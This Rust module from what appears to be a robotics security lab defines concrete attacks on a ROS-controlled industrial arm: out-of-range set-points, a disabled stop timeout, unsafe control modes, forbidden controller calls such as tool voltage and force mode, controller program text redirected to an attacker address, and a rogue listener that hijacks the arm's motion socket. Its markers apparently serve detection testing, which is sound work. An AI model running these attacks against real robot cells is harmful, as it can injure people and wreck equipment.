//! External control: records and texts from a computer that was taken over, and a computer that the robot should never
//! ask.
//!
//! Sources: technique numbers are ATT&CK for ICS; false set-points in the name of a node are from Dieber and others,
//! "Penetration Testing ROS" (2020), changed parameters of the control loop from Quarta and others, "An Experimental
//! Security Analysis of an Industrial Robot Controller" (2017); "own" = no publication known that did it.

use std::io::{BufRead, BufReader, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use super::{Attack, Forbidden, Marker, Outcome, Target};
use crate::lab::cell::Host;
use crate::lab::external_records::{SERVOJ, integers, motion, order, point, program};
use crate::lab::ros::{ABUSE, Abuse, Abused, Socket, TIMEOUT_MS, TURN, position};

/// Port on which texts are handed over.
const TEXT_PORT: u16 = 50_002;

const FALSE_SET_POINT: &str = "T0831, Dieber 2020";
const CHANGED_LOOP: &str = "T0836, Quarta 2017";

/// Far beyond the swing, and with a beginning that no honest record has.
const FAR: [i32; 6] = [2_500_911, -400_912, 2_300_913, 1_000_914, 1_100_915, -2_900_916];

/// How long the computer may take to find its moment, and the robot to come.
const PATIENCE: Duration = Duration::from_secs(7);

/// Lets the computer send what it never should, on the connections that it has.
fn abuse(abuse: &Abuse) -> Outcome {
    let mut outcome = Outcome::default();
    let port = match abuse {
        Abuse::Send { socket, .. } => socket.port(),
        Abuse::Text(_) => TEXT_PORT,
    };
    let answer = || -> std::io::Result<Abused> {
        let mut stream = TcpStream::connect(ABUSE)?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.write_all(format!("{}\n", serde_json::to_string(abuse)?).as_bytes())?;
        let mut line = String::new();
        BufReader::new(stream).read_line(&mut line)?;
        Ok(serde_json::from_str(&line)?)
    };
    match answer() {
        Ok(abused) => {
            outcome.source_ports.push(port);
            outcome.robot_ports.push(abused.robot_port);
            outcome.sent = abused.sent;
            outcome.hung_up = matches!(abuse, Abuse::Send { hang_up: true, .. });
            outcome.error = abused.error;
        }
        Err(error) => outcome.error = Some(error.to_string()),
    }
    outcome
}

/// Segments on one of the computer's sockets.
fn sent(
    name: &'static str,
    description: &'static str,
    source: &'static str,
    (socket, parts, hang_up): (Socket, Vec<Vec<u8>>, bool),
    markers: Vec<Marker>,
) -> Attack {
    Attack {
        name,
        description,
        source,
        port: socket.port(),
        from: &[Host::Ros],
        markers,
        act: Box::new(move |_| abuse(&Abuse::Send { socket, parts: parts.clone(), hang_up })),
    }
}

/// One record of the reverse socket; its marker is everything behind the time-out, which a box may change.
fn record(
    name: &'static str,
    description: &'static str,
    source: &'static str,
    values: [i32; 6],
    mode: i32,
    forbidden: Forbidden,
) -> Attack {
    let bytes = motion(TIMEOUT_MS, values, mode);
    let markers = vec![Marker::Bytes(bytes[4..].to_vec()), Marker::Record(forbidden)];
    sent(name, description, source, (Socket::Reverse, vec![bytes], false), markers)
}

/// One call of a function that the cell's computer never calls.
fn call(name: &'static str, description: &'static str, source: &'static str, function: i32, values: &[i32]) -> Attack {
    let bytes = order(function, values);
    let markers = vec![Marker::Bytes(bytes.clone()), Marker::Record(Forbidden::Order(function))];
    sent(name, description, source, (Socket::Command, vec![bytes], false), markers)
}

/// A text in the place of the program's.
fn text(name: &'static str, description: &'static str, source: &'static str, text: String, marker: &str) -> Attack {
    Attack {
        name,
        description,
        source,
        port: TEXT_PORT,
        from: &[Host::Ros],
        markers: vec![Marker::Bytes(marker.into())],
        act: Box::new(move |_| abuse(&Abuse::Text(text.clone()))),
    }
}

/// Waits for the robot.
fn accept(listener: &TcpListener, until: Instant) -> std::io::Result<TcpStream> {
    listener.set_nonblocking(true)?;
    while Instant::now() < until {
        if let Ok((stream, _)) = listener.accept() {
            stream.set_nonblocking(false)?;
            stream.set_read_timeout(Some(super::PATIENCE))?;
            return Ok(stream);
        }
        thread::sleep(Duration::from_millis(5));
    }
    Err(std::io::Error::other("the robot did not come"))
}

/// Listens where a forgotten node of the robot's program asks, hands over a text and moves the arm.
fn rogue(_: &Target) -> Outcome {
    let mut outcome = Outcome { source_ports: vec![TEXT_PORT, Socket::Reverse.port()], ..Outcome::default() };
    let mut act = || -> std::io::Result<()> {
        let texts = TcpListener::bind((Ipv4Addr::UNSPECIFIED, TEXT_PORT))?;
        let motions = TcpListener::bind((Ipv4Addr::UNSPECIFIED, Socket::Reverse.port()))?;
        let stream = accept(&texts, Instant::now() + PATIENCE)?;
        outcome.connected = true;
        let mut reader = BufReader::new(stream);
        reader.read_line(&mut outcome.answer)?;
        let text = program(reader.get_ref().local_addr()?.ip());
        reader.get_mut().write_all(text.as_bytes())?;
        outcome.sent += text.len();
        let mut motions = accept(&motions, Instant::now() + Duration::from_secs(2))?;
        for _ in 0..10 {
            motions.write_all(&motion(TIMEOUT_MS, FAR, SERVOJ))?;
            outcome.sent += 32;
            thread::sleep(Duration::from_millis(8));
        }
        Ok(())
    };
    if let Err(error) = act() {
        outcome.error = Some(error.to_string());
    }
    outcome
}

fn bounds() -> Vec<Attack> {
    let far = motion(TIMEOUT_MS, FAR, SERVOJ);
    let mut beside = position(TURN);
    beside[5] += 9_000;
    vec![
        record("external-position", "sends the arm far away", FALSE_SET_POINT, FAR, SERVOJ, Forbidden::Position),
        record(
            "external-beside",
            "sends one joint half a degree beyond its swing",
            FALSE_SET_POINT,
            beside,
            SERVOJ,
            Forbidden::Position,
        ),
        sent(
            "external-jump",
            "from one end of the swing to the other at once",
            FALSE_SET_POINT,
            (
                Socket::Reverse,
                [-TURN, TURN, -TURN].map(|phase| motion(TIMEOUT_MS, position(phase), SERVOJ)).to_vec(),
                false,
            ),
            vec![Marker::Record(Forbidden::Step)],
        ),
        sent(
            "external-endless",
            "switches off that the arm stops where the computer is silent",
            "T0880, T0878, own",
            (Socket::Reverse, vec![motion(0, position(0), SERVOJ)], false),
            vec![Marker::Record(Forbidden::Endless)],
        ),
        sent(
            "external-point",
            "a point of a trajectory far away",
            FALSE_SET_POINT,
            (Socket::Trajectory, vec![point(FAR, 500_000)], false),
            vec![Marker::Bytes(integers(&FAR)), Marker::Record(Forbidden::Point)],
        ),
        sent(
            "external-split",
            "a set-point far away, five bytes a segment",
            "own",
            (Socket::Reverse, far.chunks(5).map(<[u8]>::to_vec).collect(), false),
            vec![Marker::Bytes(far[4..].to_vec())],
        ),
        sent(
            "external-short",
            "a record that ends behind its third joint",
            "own",
            (Socket::Reverse, vec![far[..20].to_vec()], true),
            vec![Marker::Bytes(far[4..20].to_vec())],
        ),
        sent(
            "external-shifted",
            "an integer too many, so that all that follows is read beside its place",
            "own",
            (Socket::Reverse, vec![[&integers(&[0x5afe]), far.as_slice(), &far].concat()], true),
            vec![Marker::Bytes([&integers(&[0x5afe]), &far[..28]].concat())],
        ),
    ]
}

fn modes() -> Vec<Attack> {
    let mode = |name, description, source, values, mode| {
        record(name, description, source, values, mode, Forbidden::Mode(mode))
    };
    vec![
        mode("external-speedj", "speeds of joints", "T0831, own", [911_001, 0, 0, 0, 0, -911_002], 2),
        mode("external-speedl", "a speed of the tool", "T0831, own", [0, 0, -251_001, 0, 0, 1_002], 4),
        mode("external-pose", "a pose of the tool", "T0831, own", [401_001, 0, 301_002, 0, 3_140_003, 4], 5),
        mode("external-freedrive", "lets the arm be moved by hand", "T0858, own", [1, 0, 0, 0, 0, 0], 6),
        mode("external-torque", "torques of joints", "T0831, own", [56_000_001, 0, 0, 0, 0, 9_000_002], 8),
        mode("external-unknown-mode", "a mode that no program knows", "own", [911, 912, 913, 914, 915, 916], 77),
    ]
}

fn orders() -> Vec<Attack> {
    vec![
        call("external-tool-voltage", "24 V on the tool", "T0855, own", 2, &[24_000_000]),
        call("external-force-mode", "presses down with 200 N", CHANGED_LOOP, 3, &{
            let mut arguments = [0; 27];
            arguments[8] = 1_000_000;
            arguments[14] = -200_000_000;
            arguments[18] = 2_000_000;
            arguments
        }),
        call("external-gravity", "gravity from the side", CHANGED_LOOP, 9, &[9_820_000, 0, 0]),
        call("external-tcp", "a tool half a metre longer", CHANGED_LOOP, 10, &[0, 0, 500_000, 0, 0, 0]),
        call("external-unknown-order", "a function that no program knows", "own", 99, &[0x5afe]),
    ]
}

pub(super) fn attacks() -> Vec<Attack> {
    let known = program(Host::Ros.address());
    let elsewhere = program(Host::Attacker.address());
    let mut attacks = bounds();
    attacks.extend(modes());
    attacks.extend(orders());
    attacks.extend([
        text(
            "text-gain",
            "the known text with another gain",
            CHANGED_LOOP,
            known.replace("gain=2000", "gain=100"),
            "lookahead_time=0.03, gain=100)",
        ),
        text(
            "text-elsewhere",
            "a text whose sockets lead to the attacker",
            "T0843, T0821, own",
            elsewhere,
            "socket_open(\"10.20.0.66\"",
        ),
        text(
            "text-behind",
            "a statement behind the known text",
            "T0843, own",
            known + "set_tool_voltage(24)\n",
            "set_tool_voltage(24)",
        ),
        Attack {
            name: "rogue-computer",
            description: "listens where a forgotten node of the robot's program asks",
            source: "T0848, own",
            port: TEXT_PORT,
            from: &[Host::Attacker],
            markers: vec![
                Marker::Accepted(TEXT_PORT),
                Marker::Accepted(Socket::Reverse.port()),
                Marker::Bytes(motion(TIMEOUT_MS, FAR, SERVOJ)),
            ],
            act: Box::new(rogue),
        },
    ]);
    attacks
}
